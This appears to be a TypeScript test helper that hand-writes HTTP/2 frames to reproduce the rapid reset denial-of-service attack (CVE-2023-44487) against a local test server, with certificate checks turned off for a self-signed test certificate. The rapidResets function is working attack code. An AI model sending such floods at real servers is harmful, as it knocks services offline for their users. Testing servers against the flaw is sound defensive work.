import tls from 'node:tls';

/**
 * HTTP/2 frames written by hand (RFC 9113 §4.1), for attacks a well-behaved client library refuses to
 * send: a rapid reset (HEADERS then RST_STREAM at once, CVE-2023-44487) ignores the concurrency limit.
 */

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const TYPE = { HEADERS: 0x1, RST_STREAM: 0x3, SETTINGS: 0x4 } as const;
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
/** RST_STREAM error code CANCEL (RFC 9113 §7). */
const CANCEL = 0x8;

function frame(type: number, flags: number, streamId: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

/** A literal header field without indexing, its name from the static table (RFC 7541 §6.2.2). */
function literal(nameIndex: number, value: string): Buffer {
  const v = Buffer.from(value, 'latin1');
  if (nameIndex >= 15 || v.length >= 127) throw new RangeError('kept to one-byte HPACK integers');
  return Buffer.concat([Buffer.from([nameIndex, v.length]), v]);
}

/** A GET of `path` on `authority`: :method GET (2), :scheme https (7), :path, :authority (static indices). */
function getHeaderBlock(path: string, authority: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(4, path), literal(1, authority)]);
}

/** The client's opening: the preface and an empty SETTINGS frame. */
export function clientPreface(): Buffer {
  return Buffer.concat([PREFACE, frame(TYPE.SETTINGS, 0, 0, Buffer.alloc(0))]);
}

/** `count` GET requests on odd stream ids from `firstId`, each followed at once by its RST_STREAM (CANCEL). */
export function rapidResets(firstId: number, count: number, path: string, authority: string): Buffer {
  const block = getHeaderBlock(path, authority);
  const code = Buffer.alloc(4);
  code.writeUInt32BE(CANCEL);
  const frames: Buffer[] = [];
  for (let i = 0, id = firstId; i < count; i++, id += 2) {
    frames.push(frame(TYPE.HEADERS, END_STREAM | END_HEADERS, id, block), frame(TYPE.RST_STREAM, 0, id, code));
  }
  return Buffer.concat(frames);
}

/** A TLS connection that negotiated h2 (certificate not checked: the tests' self-signed one). */
export function connectH2(port: number): Promise<tls.TLSSocket> {
  return new Promise((resolve, reject) => {
    const socket = tls.connect({ host: '127.0.0.1', port, ALPNProtocols: ['h2'], rejectUnauthorized: false });
    socket.once('secureConnect', () => resolve(socket));
    socket.once('error', reject);
    socket.on('data', () => undefined); // read (and drop) what the server sends: no backpressure stall
  });
}
